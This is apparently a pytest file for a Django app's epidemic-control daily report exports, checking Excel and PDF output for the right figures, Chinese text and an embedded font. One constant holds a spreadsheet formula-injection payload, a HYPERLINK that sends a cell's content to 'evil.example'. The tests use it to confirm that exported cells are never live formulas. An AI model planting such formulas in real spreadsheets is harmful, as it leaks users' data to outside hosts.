"""The daily report on paper: the street's roll-up as Excel (title row, a row per community with its figures,
a totals row, the free text on a second sheet) and as PDF, one community's report as PDF. Read back with
openpyxl and poppler's pdftotext: the right figures, the Chinese text, the font embedded, and no cell that
a spreadsheet would run."""

import io
import subprocess

import openpyxl
import pytest
from django.utils import translation

from lianfang.core.fonts import FONT_NAME
from lianfang.watch.metrics import Metric
from lianfang.watch.report_exports import report_pdf, rollup_pdf, rollup_workbook
from lianfang.watch.reports import COLUMNS, accept_report, draft_report, rollup, save_report, submit_report
from lianfang.watch.tests.report.conftest import DAY, FIGURES_A, FIGURES_B

FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"点我")'


@pytest.fixture(autouse=True)
def chinese():
    """The exports are read back in Chinese, whatever language an earlier test's request left active."""
    with translation.override("zh-hans"):
        yield


@pytest.fixture
def street_day(world, stats, street_chief):
    """A accepted (with a formula-like text), B submitted: the street's roll-up of DAY."""
    stats(FIGURES_A, FIGURES_B)
    a = draft_report(community=world.community_a, day=DAY)
    save_report(
        user=world.staff_a,
        report=a,
        publicity="发放倡议书200份，宣传车巡回3次",
        checkpoints="东门卡口24小时值守",
        checkpoints_count=1,
        people_on_duty=6,
        disinfection_teams=2,
        disinfected_area="12000平方米",
        difficulties=FORMULA,
    )
    submit_report(user=world.staff_a, report=a)
    accept_report(user=street_chief, report=a)
    b = draft_report(community=world.community_b, day=DAY)
    save_report(user=world.staff_b, report=b, people_on_duty=4)
    submit_report(user=world.staff_b, report=b)
    a.refresh_from_db()
    return rollup(user=street_chief, area=world.street, day=DAY), a


def pdf_text(pdf: bytes, tmp_path) -> str:
    src = tmp_path / "report.pdf"
    src.write_bytes(pdf)
    return subprocess.run(
        ["pdftotext", "-layout", str(src), "-"], capture_output=True, text=True, check=True
    ).stdout


def test_the_excel_has_the_title_a_row_per_community_and_the_totals(street_day):
    result, _a = street_day
    book = openpyxl.load_workbook(io.BytesIO(rollup_workbook(result)))
    figures, texts = book.worksheets
    rows = [[c.value for c in row] for row in figures.iter_rows()]
    assert rows[0][0] == "舜耕镇 疫情防控工作日报 2026年2月10日"
    header = rows[2]
    assert header[:5] == ["序号", "社区", "状态", "上报时间", str(COLUMNS[0][1])]
    assert "卡口发热" in header and "值守人员" in header
    fevers, on_duty, residents = header.index("卡口发热"), header.index("值守人员"), header.index("居民")
    a_row, b_row, totals = rows[3], rows[4], rows[5]
    assert (a_row[1], a_row[2]) == ("A社区", "已采纳")
    assert (b_row[1], b_row[2]) == ("B社区", "已上报，待审核")
    assert (a_row[fevers], b_row[fevers], totals[fevers]) == (3, 4, 7)
    assert (a_row[on_duty], b_row[on_duty], totals[on_duty]) == (6, 4, 10)
    assert totals[residents] == 3
    assert totals[0] == "合计"
    assert len(rows) == 6

    text_rows = [[c.value for c in row] for row in texts.iter_rows()]
    assert text_rows[1][:6] == [
        "社区",
        "状态",
        "宣传工作",
        "卡口及值守人员",
        "消杀（队伍和面积）",
        "困难和问题",
    ]
    assert text_rows[2][2] == "发放倡议书200份，宣传车巡回3次"
    assert text_rows[2][4] == "2 支队伍; 12000平方米"


def test_no_cell_of_the_excel_is_a_live_formula(street_day):
    result, _a = street_day
    book = openpyxl.load_workbook(io.BytesIO(rollup_workbook(result)))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    risky = [c for c in cells if c.value == FORMULA]
    assert len(risky) == 1 and risky[0].quotePrefix and risky[0].data_type == "s"


def test_a_communitys_pdf_reads_back_with_its_figures_and_chinese_text(street_day, tmp_path):
    _result, a = street_day
    pdf = report_pdf(a)
    assert FONT_NAME.encode() in pdf  # the CJK font is embedded (a subset of it)
    text = pdf_text(pdf, tmp_path)
    assert "A社区 疫情防控工作日报 2026年2月10日" in text
    assert "已采纳" in text
    assert "发放倡议书200份" in text and "东门卡口24小时值守" in text
    fevers_line = next(line for line in text.splitlines() if "卡口发热" in line).split()
    assert fevers_line[fevers_line.index("卡口发热") + 1] == str(FIGURES_A[Metric.FEVERS])


def test_the_streets_pdf_reads_back_with_its_totals(street_day, tmp_path):
    result, _a = street_day
    pdf = rollup_pdf(result)
    assert FONT_NAME.encode() in pdf
    text = pdf_text(pdf, tmp_path)
    assert "舜耕镇 疫情防控工作日报 2026年2月10日" in text
    assert "2 个社区中 2 个已上报" in text
    fevers_line = next(line for line in text.splitlines() if "卡口发热" in line)
    assert fevers_line.split()[-1] == "7"
    assert "B社区" in text and "已上报，待审核" in text
